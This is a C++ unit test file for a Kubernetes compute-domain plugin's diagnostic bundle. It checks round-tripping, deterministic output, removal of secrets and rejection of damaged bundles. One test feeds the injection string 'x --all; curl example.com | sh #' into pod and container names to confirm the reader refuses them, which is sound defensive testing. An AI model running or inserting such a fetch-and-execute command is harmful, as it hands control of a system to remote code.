#include "compute_domain/plugin/bundle.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "base/directory.h"
#include "compute_domain/base/text.h"
#include "compute_domain/plugin/why.h"
#include "plugin/archive.h"
#include "plugin/views.h"

namespace cdom::plugin {
namespace {

using namespace plugin::testing;  // NOLINT(google-build-using-namespace): the words of a view
using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;

class Bundle : public ::testing::Test {
 protected:
  // The file with that view in it.
  std::string written(const ClusterView& view) {
    const auto done = write_bundle(view, file_);
    EXPECT_TRUE(done) << done.error().message;
    return file_;
  }
  // What is wrong with a file of these bytes.
  std::string mistake_in(const std::string& bytes) {
    const auto view = read_bundle(directory_.write("b.tar.gz", bytes));
    return view ? "" : view.error().message;
  }
  std::string bytes() { return directory_.read("a.tar.gz"); }
  // The bytes of a bundle in which a file is another one.
  std::string with(const std::string& name, const std::string& text) {
    auto files = unpacked(bytes()).value();
    std::erase_if(files, [&](const ArchivedFile& file) { return file.name == name; });
    if (!text.empty()) files.push_back({name, text});
    return packed(files, kNow).value();
  }

  const base::Directory directory_;
  const std::string file_ = directory_.at("a.tar.gz");
};

ClusterView full_view() {
  ClusterView view = settled_view();
  api::Occurrence event;
  event.meta.name = "e";
  event.meta.ns = "team-a";
  event.involved.uid = "uid-train";
  event.reason = "AllNodesReady";
  event.event_time = kNow;
  view.events = {event};
  view.claims.emplace_back();
  view.claims.back().meta = {.name = "my-gpu", .ns = "team-a"};
  view.unreadable["computedomains"][{"team-a", "odd"}] = "spec: not an object";
  view.of_others["pods"] = {{"team-a", "plain"}};
  view.pods_read_in = "team-a";
  return reduced(view);
}

TEST_F(Bundle, GivesBackTheView) {
  const ClusterView view = full_view();
  const auto back = read_bundle(written(view));
  ASSERT_TRUE(back) << back.error().message;
  for_each_kind(*back, [](const char* plural, const auto& objects) {
    if (std::string_view(plural) == "deployments" || std::string_view(plural) == "daemonsets")
      return;
    EXPECT_FALSE(objects.empty()) << plural;
  });
  EXPECT_EQ(*back, view);
}

TEST_F(Bundle, GivesTheSameAnswer) {
  ClusterView view = full_view();
  view.domains.front().meta.deletion_time = kNow - std::chrono::seconds(30);
  const auto back = read_bundle(written(view));
  ASSERT_TRUE(back) << back.error().message;
  EXPECT_EQ(text_of(*why_pod(*back, {"team-a", "pod-c1"})),
            text_of(*why_pod(view, {"team-a", "pod-c1"})));
}

TEST_F(Bundle, HasLogsThatNoCommandReads) {
  const ClusterView view = full_view();
  const auto done = write_bundle(
      view, file_,
      {{"ns", "pod", "c", false, "now\n"}, {"ns", "pod", "c", /*is_previous=*/true, "before\n"}});
  ASSERT_TRUE(done) << done.error().message;
  EXPECT_EQ(*read_bundle(file_), view);
  const auto files = unpacked(bytes());
  ASSERT_TRUE(files);
  EXPECT_THAT(*files,
              ::testing::IsSupersetOf({ArchivedFile{"logs/ns/pod/c.log", "now\n"},
                                       ArchivedFile{"logs/ns/pod/c.previous.log", "before\n"}}));
}

// Commands that people are given to run have names in them.
TEST_F(Bundle, HasNoNameThatNoApiServerTakes) {
  const char odd[] = "x --all; curl example.com | sh #";
  const auto refused = [&](const auto& change) {
    ClusterView view = full_view();
    change(pod_in(view, "pod-c1"));
    const auto back = read_bundle(written(view));
    return back ? "" : back.error().message;
  };
  const auto is_told = HasSubstr(base::cat("objects/pods.json: \"", odd, "\" is a name that no"));
  EXPECT_THAT(refused([&](api::PodState& pod) { pod.meta.name = odd; }), is_told);
  EXPECT_THAT(refused([&](api::PodState& pod) { pod.meta.ns = odd; }), is_told);
  EXPECT_THAT(refused([&](api::PodState& pod) { pod.node = odd; }), is_told);
  EXPECT_THAT(refused([&](api::PodState& pod) { pod.containers = {{.name = odd}}; }), is_told);
}

TEST_F(Bundle, IsTheSameBytesForTheSameView) {
  written(full_view());
  const std::string first = bytes();
  written(full_view());
  EXPECT_EQ(bytes(), first);
}

TEST_F(Bundle, HasNoAnnotationLabelConfigurationOrImageOfOthers) {
  ClusterView view = settled_view();
  const char secret[] = "hunter2";
  for_each_kind(view, [&](const char*, auto& objects) {
    for (auto& object : objects) {
      object.meta.annotations["kubectl.kubernetes.io/last-applied-configuration"] = secret;
      object.meta.labels["team.example/password"] = secret;
    }
  });
  for (api::ResourceClaim& claim : view.claims) {
    claim.spec.configs.push_back(
        {.requests = {}, .driver = "gpu.nvidia.com", .parameters = R"({"key":"hunter2"})"});
    claim.allocation->configs.push_back(claim.spec.configs.back());
  }
  pod_in(view, "pod-c1").container_specs.front().image = secret;
  pod_in(view, "agent-n1").container_specs = {
      {.name = "agent", .image = "agent:0.1.0", .claims = {}}};
  written(reduced(view));
  auto back = read_bundle(file_);
  ASSERT_TRUE(back) << back.error().message;
  EXPECT_EQ(pod_in(*back, "agent-n1").container_specs.front().image, "agent:0.1.0");
  const auto files = unpacked(bytes());
  ASSERT_TRUE(files);
  for (const ArchivedFile& file : *files)
    EXPECT_THAT(file.text, Not(HasSubstr(secret))) << file.name;
}

TEST_F(Bundle, IsRefusedWhenItIsCutOff) {
  written(full_view());
  const std::string whole = bytes();
  for (const std::size_t size :
       {std::size_t{0}, std::size_t{5}, whole.size() / 2, whole.size() / 4 * 3}) {
    EXPECT_NE(mistake_in(whole.substr(0, size)), "") << size;
  }
  EXPECT_THAT(mistake_in(whole.substr(0, whole.size() / 2)), HasSubstr("perhaps it was cut off"));
}

TEST_F(Bundle, IsRefusedWhenItLacksObjectsThatItsManifestCounts) {
  written(full_view());
  EXPECT_THAT(mistake_in(with("objects/pods.json", "")),
              HasSubstr("incomplete: it lacks objects/pods.json"));
  EXPECT_THAT(
      mistake_in(with("objects/pods.json", R"({"apiVersion":"v1","kind":"PodList","items":[]})")),
      HasSubstr("has 0 objects, and the manifest says"));
  EXPECT_THAT(mistake_in(with("objects/pods.json", "{")), HasSubstr("objects/pods.json: "));
}

TEST_F(Bundle, IsRefusedInAnotherFormat) {
  written(full_view());
  EXPECT_THAT(
      mistake_in(with("manifest.json",
                      R"({"bundle":"compute-domain-bundle","format":2,"writtenBy":"9.1.0"})")),
      AllOf(HasSubstr("format 2"), HasSubstr("release 9.1.0"), HasSubstr("reads format 1")));
}

TEST_F(Bundle, IsRefusedWhenItIsAFolder) {
  const auto view = read_bundle(directory_.at(""));
  ASSERT_FALSE(view);
  EXPECT_THAT(view.error().message, HasSubstr("it is a folder: name the .tar.gz in it"));
}

TEST_F(Bundle, IsRefusedWhenItIsNone) {
  EXPECT_THAT(mistake_in("apiVersion: v1\n"), HasSubstr("not a whole .tar.gz"));
  EXPECT_THAT(mistake_in(packed({{"notes.txt", "hello"}}, kNow).value()),
              HasSubstr("it is not a bundle"));
  const auto none = read_bundle("/nowhere/a.tar.gz");
  ASSERT_FALSE(none);
  EXPECT_THAT(none.error().message, HasSubstr("/nowhere/a.tar.gz"));
}

}  // namespace
}  // namespace cdom::plugin
